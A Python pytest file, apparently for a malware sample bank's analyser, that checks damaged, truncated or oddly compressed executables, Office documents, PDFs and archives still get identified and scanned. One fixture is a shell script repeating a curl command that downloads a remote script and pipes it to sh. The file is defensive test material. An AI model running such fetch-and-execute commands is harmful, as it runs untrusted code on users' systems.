"""Damaged files cost their own findings only: no part of a file fails the whole analysis, nor hides the type."""

import io
import random
import re
import zipfile
from collections.abc import Awaitable, Callable, Mapping
from pathlib import Path

import pytest

from identification import kinds
from samplebank.identification import Identifier
from samplebank.worker.contract import Result
from worker import made_archives, made_files, made_programs, made_signatures

Analyse = Callable[[bytes], Awaitable[Result]]
TIMES = 16
#: bytes changed in each copy
CHANGES = 8
HUGE = (b"\xff\xff\xff\xff", b"\xff\xff\xff\x7f", b"\0\0\0\x80", b"\xff\xff\0\0")
METHODS = (9, 12, 14, 99)

GOOD: Mapping[str, tuple[str, bytes]] = {
    "pebin": ("pebin", made_files.launcher()),
    "signed": ("pebin", made_signatures.signed_program()),
    "elf": ("elf", made_programs.elf()),
    "macho": ("macho", made_programs.apple()),
    "fat": ("macho", kinds.fat_macho(made_programs.apple(), kinds.macho(), wide=False)),
    "fat64": ("macho", kinds.fat_macho(made_programs.apple(), kinds.macho(), wide=True)),
    "docx": ("docx", made_files.word(word__vbaProject_dot_bin="macro")),
    "pptx": ("pptx", kinds.zipped("[Content_Types].xml", "ppt/presentation.xml", "ppt/slides/slide1.xml")),
    "xlsx": ("xlsx", kinds.zipped("[Content_Types].xml", "xl/workbook.xml", "xl/embeddings/oleObject1.bin")),
    "pdf": ("pdf", made_files.pdf("<< /S /JavaScript /JS (app.alert(1)) >>", "<< /Type /ObjStm >>")),
    "rtf": (
        "rtf",
        b"{\\rtf1\\ansi{\\object\\objemb\\objdata 0105000002000000}"
        + b"\\par words of a letter\n" * 40
        + b"}",
    ),
    "ole": ("encryptedooxml", kinds.encrypted_workbook()),
    "doc": ("doc", made_archives.compound(WordDocument=b"\xec\xa5", _VBA_PROJECT=b"macro") + bytes(4096)),
    "zip": ("zip", made_files.plain_zip()),
    "7z": ("sevenzip", made_archives.sevenzip("one.txt", "two.exe", password=True)),
    "rar 4": ("rar", made_archives.rar_4("one.txt", "two.exe", password=True)),
    "rar 5": ("rar", made_archives.rar_5("one.txt", "two.exe", password=True)),
    "script": ("shell", b"#!/bin/sh\n" + b"curl http://203.0.113.7/x.sh | sh\n" * 40),
}
#: bytes at the start that tell the kind of the file, and so are left alone
MARKS = 16


def damaged(content: bytes, seed: int) -> list[bytes]:
    """Copies with changed bytes, mostly in the headers, with ends cut off, with holes, and with counts that cannot be."""
    chance = random.Random(seed)  # noqa: S311 the same files each time
    return [_damaged(bytearray(content), chance, number) for number in range(TIMES)]


def _damaged(copy: bytearray, chance: random.Random, number: int) -> bytes:
    def place() -> int:
        end = len(copy) if chance.random() < 0.3 else min(len(copy), 2048)
        return chance.randrange(MARKS, end)

    way = number % 4
    if way == 0:
        for _ in range(CHANGES):
            copy[place()] = chance.choice((0, 0xFF, 0x80, chance.randrange(256)))
    elif way == 1:
        start = place()
        copy[start : start + chance.choice((8, 64, 512))] = chance.choice((b"", bytes(64), b"\xff" * 64))
    elif way == 2:
        for _ in range(3):
            start = place() & ~3
            copy[start : start + 4] = chance.choice(HUGE)
    else:
        del copy[chance.randrange(max(64, len(copy) // 3), len(copy)) :]
    return bytes(copy)


@pytest.mark.parametrize("kind", GOOD)
async def test_a_damaged_file_is_analysed_all_the_same(static: Analyse, kind: str) -> None:
    results = [await static(content) for content in damaged(GOOD[kind][1], seed=1)]

    assert [result.result["size"] > 0 for result in results] == [True] * TIMES


@pytest.mark.parametrize("kind", GOOD)
async def test_a_damaged_file_is_identified_all_the_same(
    identifier: Identifier, tmp_path: Path, kind: str
) -> None:
    path = tmp_path / "sample"
    failures = []
    for content in damaged(GOOD[kind][1], seed=2):
        path.write_bytes(content)
        failures.append((await identifier.identify(path)).meta_data.get("failure"))

    assert failures == [None] * TIMES


@pytest.mark.parametrize(
    "kind", ["pebin", "elf", "macho", "fat", "fat64", "pdf", "rtf", "7z", "rar 4", "rar 5"]
)
async def test_a_program_that_is_cut_off_keeps_its_type(
    identifier: Identifier, tmp_path: Path, kind: str
) -> None:
    expected, content = GOOD[kind]
    path = tmp_path / "sample"
    found = set()
    for part in (2, 3, 4, 8):
        path.write_bytes(content[: max(len(content) // part, 512)])
        found.add((await identifier.identify(path)).type)

    assert found == {expected}


@pytest.mark.parametrize("kind", ["docx", "pptx", "xlsx"])
@pytest.mark.parametrize("method", METHODS)
async def test_documents_of_unknown_methods_keep_their_type(
    identifier: Identifier, static: Analyse, tmp_path: Path, kind: str, method: int
) -> None:
    content = bytearray(GOOD[kind][1])
    for mark, place in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        for entry in re.finditer(re.escape(mark), GOOD[kind][1]):
            content[entry.start() + place] = method
    path = tmp_path / "sample"
    path.write_bytes(content)

    identified = await identifier.identify(path)
    result = await static(bytes(content))

    assert (identified.type, result.result["format"]) == (kind, "ooxml")


async def test_an_archive_inside_does_not_name_the_type(identifier: Identifier, tmp_path: Path) -> None:
    workbook = kinds.zipped("[Content_Types].xml", "xl/workbook.xml")
    deck = io.BytesIO()
    with zipfile.ZipFile(deck, "w") as archive:
        for name, content in (
            ("[Content_Types].xml", b"t"),
            ("ppt/presentation.xml", b"p"),
            ("ppt/embeddings/a.xlsx", workbook),
        ):
            archive.writestr(name, content)
    path = tmp_path / "sample"
    path.write_bytes(
        deck.getvalue()[:-300]
    )  # the bytes after the inner archive are cut off, but the headers of the entries are whole

    assert (await identifier.identify(path)).type == "pptx"


def with_interpreter(interpreter: bytes) -> bytes:
    """A program that asks for another program as its loader."""
    start = 64 + 56
    header = bytearray(kinds.elf())[:64]
    header[32:40] = (64).to_bytes(8, "little")
    header[54:58] = (56).to_bytes(2, "little") + (1).to_bytes(2, "little")
    size = len(interpreter) + 1
    words = (start, start, start, size, size, 1)
    segment = (
        (3).to_bytes(4, "little")
        + (4).to_bytes(4, "little")
        + b"".join(w.to_bytes(8, "little") for w in words)
    )
    return bytes(header) + segment + interpreter + b"\0" + bytes(8192)


@pytest.mark.parametrize("interpreter", [b"/lib/\xff\xfe.so", b"/" * 2_000_000], ids=["no text", "long"])
async def test_an_odd_interpreter_costs_itself_only(
    static: Analyse, identifier: Identifier, tmp_path: Path, interpreter: bytes
) -> None:
    path = tmp_path / "sample"
    path.write_bytes(with_interpreter(interpreter))

    identified = await identifier.identify(path)
    result = await static(path.read_bytes())

    assert (identified.type, result.result["format"]) == ("elf", "elf")


def odd_method(method: int) -> bytes:
    """A document with macros, whose text is compressed in a way that nobody knows."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        for name in ("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"):
            archive.writestr(name, "x" * 100)
    data = bytearray(content.getvalue())
    for signature, place in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        start = data.index(signature, data.index(signature) + 1)
        data[start + place] = method
    return bytes(data)


@pytest.mark.parametrize("method", [9, 12, 14, 99])
async def test_an_unknown_method_does_not_hide_macros(static: Analyse, method: int) -> None:
    result = await static(odd_method(method))

    assert "office-macros" in {detection.name for detection in result.detections}
    assert result.result["damagedParts"] == ["word/document.xml"]


async def test_macros_are_found_wherever_the_directory_lies(static: Analyse) -> None:
    far = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(17 * 1024 * 1024) + "_VBA_PROJECT".encode("utf-16-le")

    assert "office-macros" in {detection.name for detection in (await static(far)).detections}


@pytest.mark.parametrize("section", [b"__te\xff\xfe", b"\xff" * 16], ids=["no text", "all ones"])
async def test_an_odd_section_name_costs_itself_only(static: Analyse, section: bytes) -> None:
    content = made_programs.apple().replace(b"__text".ljust(16, b"\0"), section.ljust(16, b"\0"))

    sections = (await static(content)).result["macho"]["sections"]

    assert [one["size"] for one in sections] == [4096, 2048]


async def test_the_slices_of_a_wide_universal_program_are_all_looked_into(static: Analyse) -> None:
    packed = kinds.macho((b"__text", 0x80000400, kinds.noise(3000)))
    content = kinds.fat_macho(made_programs.apple(), packed, wide=True)

    result = await static(content)

    assert len(result.result["macho"]["architectures"]) == 2
    assert "high-entropy-code" in {detection.name for detection in result.detections}
